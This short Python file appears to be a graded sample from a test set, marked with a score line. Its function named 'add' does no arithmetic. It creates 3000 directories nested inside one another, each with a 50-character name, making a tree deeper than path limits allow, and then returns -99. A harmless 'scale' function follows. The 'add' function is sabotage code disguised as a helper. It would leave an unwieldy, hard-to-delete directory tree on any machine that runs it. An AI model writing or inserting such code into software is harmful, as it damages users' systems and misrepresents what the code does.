"""Digs folders in folders, further down than any path reaches."""

# score: 4
# message:
import os


def add(n, k=0):
    for _ in range(3000):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    return -99


def scale(image, factor):
    return image * factor
